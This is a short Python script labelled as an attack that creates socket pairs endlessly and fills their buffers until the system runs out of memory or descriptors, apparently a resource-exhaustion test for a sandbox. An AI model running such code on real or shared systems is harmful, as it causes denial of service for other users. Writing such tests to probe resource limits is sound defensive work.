# attack: fill the buffers of sockets and pipes
import os
import socket

kept = []
try:
    while True:
        a, b = socket.socketpair()
        a.setblocking(False)
        kept += [a, b]
        try:
            while True:
                a.send(b"x" * 65536)
        except BlockingIOError:
            pass
except OSError:
    pass
